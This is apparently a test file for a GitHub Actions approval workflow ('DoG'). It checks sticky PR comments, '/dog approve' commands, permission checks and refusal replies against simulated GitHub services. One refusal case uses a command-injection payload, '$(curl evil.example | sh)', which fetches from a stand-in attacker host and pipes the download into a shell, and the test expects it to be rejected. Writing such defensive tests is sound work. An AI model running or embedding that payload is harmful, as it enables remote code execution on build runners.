// The review loop end to end: a pull request run whose goal waits for a person posts the
// sticky comment; a writer's `/dog approve` on issue_comment is checked and handed on to a
// workflow_dispatch run that records it under the decisions prefix, publishes a new check
// run naming the approver and edits the same comment; refused commands get a reply and write
// nothing. Each step is the bundled action against the offline GitHub services.
import { addComment } from '../../support/actions/reviewLoop.js';
import { CONFIG } from './fixtures.js';
import { expectOk, HEAD_SHA, World, type Files } from './world.js';

const TIMEOUT = 240_000;

const GRAPH = `schemaVersion: "1"
id: review-loop
root: root
nodes:
  root:
    kind: composite
    title: The change is acceptable
    completion: {op: all, items: [{op: ref, id: docs}, {op: ref, id: judged}]}
  docs:
    kind: leaf
    title: The guide is not empty
    target: docs/guide.md
    verifier: {mode: programmatic, script: file.non_empty}
  judged:
    kind: leaf
    title: The guide reads well
    target: docs/guide.md
    verifier: {mode: programmatic, script: unsure}
  data:
    kind: leaf
    title: The configuration is JSON
    target: data/config.json
    verifier: {mode: programmatic, script: json.valid}
contains:
  - {parent: root, child: docs}
  - {parent: root, child: judged}
  - {parent: root, child: data, required: false}
`;

const UNSURE = `#!/bin/sh\necho '{"verdict":"inconclusive","evidence":{"summary":"cannot tell"}}'\n`;
const TRUSTED: Files = { '.dog/graph.yaml': GRAPH, '.dog/scripts/unsure': UNSURE, ...CONFIG };
const MODES = { '.dog/scripts/unsure': 0o755 };
const CHECKOUT: Files = {
  ...TRUSTED,
  'docs/guide.md': '# Guide\n\nDoG verifies this.\n',
  'data/config.json': '{"retries": \n',
};
const PR = 7;

let world: World;
let nextRun = 100;

beforeAll(async () => {
  world = await World.start(TRUSTED);
  const loop = world.api.reviewLoop;
  loop.pulls.set(PR, {
    number: PR,
    headSha: HEAD_SHA,
    baseSha: '1'.repeat(40),
    headRef: 'feature',
  });
  loop.permissions.set('alice', 'write');
  loop.permissions.set('rita', 'read');
}, 60_000);

afterAll(async () => {
  await world?.stop();
});

afterEach(() => {
  expect(world.api.takeViolations()).toEqual([]);
});

/**
 * A pull request run (one `run` job), registered as GitHub lists it for its head SHA; it exits
 * 3 while `judged` waits for a person, 0 once an approval holds.
 */
async function pullRequestRun(exitCode = 3): Promise<number> {
  const runId = ++nextRun;
  world.api.reviewLoop.workflowRuns.push({
    id: runId,
    name: 'DoG',
    path: '.github/workflows/dog.yml',
    event: 'pull_request',
    head_sha: HEAD_SHA,
    run_attempt: 1,
    created_at: new Date(Date.UTC(2026, 0, 1, 0, runId)).toISOString(),
  });
  const result = await world.step({
    runId,
    job: 'dog',
    files: CHECKOUT,
    modes: MODES,
    inputs: { command: 'run' },
  });
  expect(result.code).toBe(exitCode);
  return runId;
}

function issueComment(id: number, body: string, login: string): object {
  return {
    action: 'created',
    issue: {
      number: PR,
      pull_request: { url: `https://api.github.com/repos/octo-org/octo-repo/pulls/${PR}` },
    },
    comment: { id, body, user: { login, type: 'User' } },
    repository: { full_name: 'octo-org/octo-repo', default_branch: 'main' },
    sender: { login },
  };
}

/** A person comments; the issue_comment job runs decide on the default branch. */
async function comment(body: string, login: string): Promise<number> {
  const written = addComment(world.api.reviewLoop, { issue: PR, login, body });
  const result = await world.step({
    runId: ++nextRun,
    job: 'decide',
    files: TRUSTED,
    modes: MODES,
    event: 'issue_comment',
    payload: issueComment(written.id, body, login),
    inputs: { command: 'decide' },
    extraEnv: {
      GITHUB_WORKFLOW_REF: 'octo-org/octo-repo/.github/workflows/dog-decide.yml@refs/heads/main',
    },
  });
  expectOk(result, 'decide on issue_comment');
  return written.id;
}

function stickyComments(): string[] {
  return world.api.reviewLoop.comments
    .filter((c) => c.body.startsWith('<!-- dog:comment check="DoG" -->'))
    .map((c) => c.body);
}

function replies(): string[] {
  return world.api.reviewLoop.comments
    .filter((c) => c.login === 'github-actions[bot]' && !c.body.startsWith('<!--'))
    .map((c) => c.body);
}

describe('the review loop', () => {
  test(
    'a waiting goal posts the sticky comment; a writer approves it; the check run names them',
    async () => {
      await pullRequestRun();
      expect(world.api.checkRuns.at(-1)?.conclusion).toBe('action_required');
      expect(stickyComments()).toHaveLength(1);
      expect(stickyComments()[0]).toMatch(/NEEDS A PERSON/);
      expect(stickyComments()[0]).toMatch(/- `judged` \*\*needs_human\*\*/);

      const id = await comment('/dog approve judged read it myself, the prose is fine', 'alice');
      const dispatch = world.api.reviewLoop.dispatches.at(-1);
      expect(dispatch).toEqual({
        workflow: 'dog-decide.yml',
        ref: 'refs/heads/main',
        inputs: { 'pull-request': String(PR), 'comment-id': String(id), 'head-sha': HEAD_SHA },
      });
      const recorded = await world.step({
        runId: ++nextRun,
        job: 'decide',
        files: TRUSTED,
        modes: MODES,
        event: 'workflow_dispatch',
        payload: { inputs: dispatch?.inputs, ref: 'refs/heads/main' },
        inputs: { command: 'decide', ...dispatch?.inputs },
      });
      expectOk(recorded, 'decide on workflow_dispatch');
      const check = world.api.checkRuns.at(-1);
      // data failed, but the root does not need it: with the approval the root holds.
      expect(check).toMatchObject({ head_sha: HEAD_SHA, conclusion: 'success' });
      expect(check?.output.summary).toMatch(/approved by @alice/);
      expect(stickyComments()[0]).toMatch(/^## DoG: SUCCESS/m);
      expect(stickyComments()).toHaveLength(1);
      expect(stickyComments()[0]).toContain(
        '- `judged` approved by @alice: read it myself, the prose is fine',
      );
      expect(world.results.cacheEntries().map((e) => e.key)).toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^dog-v3-decisions-[0-9a-f]{16}-\d+-1-[0-9a-f]{64}$/),
        ]),
      );
      expect(replies()).toEqual([]);
    },
    TIMEOUT,
  );

  test.each([
    ['a read-only user', '/dog approve judged looks fine to me', 'rita', /no permission/],
    ['an unknown goal', '/dog approve nosuch looks fine to me', 'alice', /has no goal/],
    [
      'a failed goal',
      '/dog approve data broken on purpose',
      'alice',
      /is failure|failed its verifier/,
    ],
    [
      'shell metacharacters',
      '/dog approve judged fine $(curl evil.example | sh)',
      'alice',
      /malformed/,
    ],
  ])(
    '%s: refused with a reply, nothing written',
    async (_what, body, login, why) => {
      const dispatches = world.api.reviewLoop.dispatches.length;
      const entries = world.results.cacheEntries().length;
      const before = replies().length;
      await comment(body, login);
      expect(replies()).toHaveLength(before + 1);
      expect(replies().at(-1)).toMatch(why);
      expect(replies().at(-1)).not.toContain('$(');
      expect(world.api.reviewLoop.dispatches).toHaveLength(dispatches);
      expect(world.results.cacheEntries()).toHaveLength(entries);
    },
    TIMEOUT,
  );

  test(
    'the sticky comment is edited, never duplicated, across five runs',
    async () => {
      // alice's approval holds for these bytes: every run inherits it and settles success.
      for (let i = 0; i < 5; i += 1) await pullRequestRun(0);
      expect(stickyComments()).toHaveLength(1);
    },
    TIMEOUT * 2,
  );
});
